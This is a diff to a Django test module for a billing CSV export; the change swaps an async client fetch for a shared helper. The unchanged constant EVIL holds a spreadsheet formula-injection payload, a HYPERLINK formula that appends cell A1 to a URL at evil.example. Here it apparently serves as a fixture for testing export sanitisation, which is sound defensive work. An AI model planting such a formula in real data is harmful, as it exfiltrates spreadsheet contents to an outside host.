@@ -5,28 +5,18 @@ amounts included, stay numbers."""
 import csv
 import io
 
-from asgiref.sync import async_to_sync
-from django.test import AsyncClient, Client
-from tests_reports_helpers import DAY, at
+from django.test import Client
+from tests_reports_helpers import DAY, at, csv_body
 
 from billing.ledger.services import add_adjustment
 from billing.models import ChargeLine
 from billing.reports import exports
 
-RANGE = {"start": "2026-03-01", "end": "2026-03-08"}
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
 def report_csv(user, **params) -> list[dict]:
-    client = AsyncClient()
-    client.force_login(user)
-
-    async def fetch():
-        response = await client.get("/reports/export.csv", {**RANGE, **params})
-        assert response.status_code == 200
-        return b"".join([chunk async for chunk in response.streaming_content])
-
-    return list(csv.DictReader(io.StringIO(async_to_sync(fetch)().decode())))
+    return list(csv.DictReader(io.StringIO(csv_body(user, **params))))
 
 
 def credit(usage, reason):
